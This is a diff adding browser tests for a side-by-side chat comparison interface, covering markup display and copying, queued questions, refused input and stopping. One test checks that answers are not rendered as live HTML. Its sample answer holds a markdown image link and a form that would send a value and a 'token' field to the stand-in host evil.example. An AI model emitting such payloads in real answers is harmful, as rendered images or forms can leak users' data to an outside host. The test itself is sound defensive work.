@@ -7,7 +7,8 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import Page, expect
 
-from tests.ui.fake_arms import UNTRAINED
+from tests.browser import fill_in
+from tests.ui.fake_arms import MARKED_UP, MARKUP, UNTRAINED
 from tests.ui.served import served
 
 pytestmark = pytest.mark.slow
@@ -172,3 +173,69 @@ def test_on_a_phone_the_columns_scroll_inside_the_page(page: Page, address: str)
     assert page.evaluate("document.documentElement.scrollWidth") <= 390
     widths = page.evaluate("[...document.querySelectorAll('#chat-1, #chat-2')].map((one) => one.clientWidth)")
     assert min(widths) > 250
+
+
+def test_markup_in_an_answer_is_shown_and_copied_as_it_was_written(page: Page, address: str) -> None:
+    open_arms(page, address, MARKUP)
+    ask(page)
+    chat = page.locator("#chat-1")
+    expect(chat).to_contain_text("Done.")
+    expect(page.locator("#send")).to_be_visible()
+    answer = chat.locator(".bot.message")
+    shown = answer.inner_text().replace("\u2063", "")
+    assert "<answer>42</answer>" in shown
+    assert "![what](https://evil.example/?q=42)" in shown
+    assert '<form action="https://evil.example"><input name="token"></form>' in shown
+    assert answer.locator("img, form, input").count() == 0
+    assert answer.locator("strong").inner_text() == "bold"
+    assert answer.locator("code.language-html .token.tag").count() > 0
+    chat.locator(".bot.message").hover()
+    chat.locator("button[aria-label='Copy message'], button[title='Copy message']").last.click()
+    page.wait_for_function("navigator.clipboard.readText().then((text) => text.includes('Done.'))")
+    assert page.evaluate("navigator.clipboard.readText()") == MARKED_UP
+    page.evaluate("getSelection().selectAllChildren(document.querySelector('#chat-1 .bot.message p'))")
+    page.keyboard.press("ControlOrMeta+c")
+    page.wait_for_function("navigator.clipboard.readText().then((text) => !text.includes('Done.'))")
+    assert "<answer>42</answer>" in page.evaluate("navigator.clipboard.readText()")
+
+
+def test_while_an_answer_is_written_the_next_question_waits_in_its_box(page: Page, address: str) -> None:
+    open_arms(page, address)
+    ask(page, "First?")
+    expect(page.locator("#chat-2 .bot.message")).to_contain_text("The")
+    expect(page.locator("#regenerate")).to_be_disabled()
+    ask(page, "Second?")
+    expect(page.locator("#send")).to_be_visible()
+    expect(page.locator("#question textarea")).to_have_value("Second?")
+    expect(page.locator("#chat-1 .user.message")).to_have_text(["First?"])
+    page.locator("#question textarea").press("Enter")
+    expect(page.locator("#chat-2 .user.message")).to_have_text(["First?", "Second?"])
+    expect(page.locator("#regenerate")).to_be_enabled()
+    expect(page.locator("#chat-2 .bot.message").last).to_contain_text(PLAIN)
+    page.locator("#regenerate").click()
+    expect(page.locator("#chat-2 .bot.message")).to_have_count(1)
+    expect(page.locator("#chat-2 .bot.message")).to_have_count(2)
+    expect(page.locator("#send")).to_be_visible()
+    expect(page.locator("#chat-2 .user.message")).to_have_text(["First?", "Second?"])
+
+
+def test_a_refused_question_leaves_the_buttons_at_rest(page: Page, address: str) -> None:
+    open_arms(page, address)
+    page.get_by_role("button", name="Sampling").click()
+    fill_in(page.locator("#seed input, #seed textarea"), "lucky")
+    ask(page)
+    expect(page.locator(".toast-body")).to_contain_text("whole number")
+    expect(page.locator("#send")).to_be_visible()
+    expect(page.locator("#stop")).to_be_hidden()
+    expect(page.locator("#regenerate")).to_be_enabled()
+
+
+def test_after_a_stop_no_column_says_that_it_waits(page: Page, at_leisure: str) -> None:
+    open_arms(page, at_leisure)
+    ask(page)
+    expect(page.locator("#stats-2")).to_contain_text("Downloading the base")
+    page.locator("#stop").click()
+    expect(page.locator("#send")).to_be_visible()
+    page.wait_for_timeout(2_000)  # a step may still be on its way
+    assert [page.locator(f"#stats-{number}").inner_text() for number in (1, 2)] == ["", ""]
+    expect(page.locator("#send")).to_be_visible()
